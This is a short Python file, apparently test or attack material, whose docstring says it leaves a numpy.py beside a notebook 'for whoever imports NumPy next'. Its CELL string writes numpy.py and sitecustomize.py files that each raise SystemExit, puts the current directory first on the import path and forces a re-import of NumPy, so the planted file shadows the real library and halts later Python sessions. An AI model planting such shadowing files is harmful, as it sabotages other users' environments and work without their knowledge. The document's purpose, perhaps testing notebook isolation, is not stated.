"""Leave a numpy.py beside the notebook for whoever imports NumPy next."""

CELL = """\
open("numpy.py", "w").write("raise SystemExit")
open("sitecustomize.py", "w").write("raise SystemExit")
import importlib
import sys

sys.path.insert(0, ".")
sys.modules.pop("numpy")
import numpy as np
"""
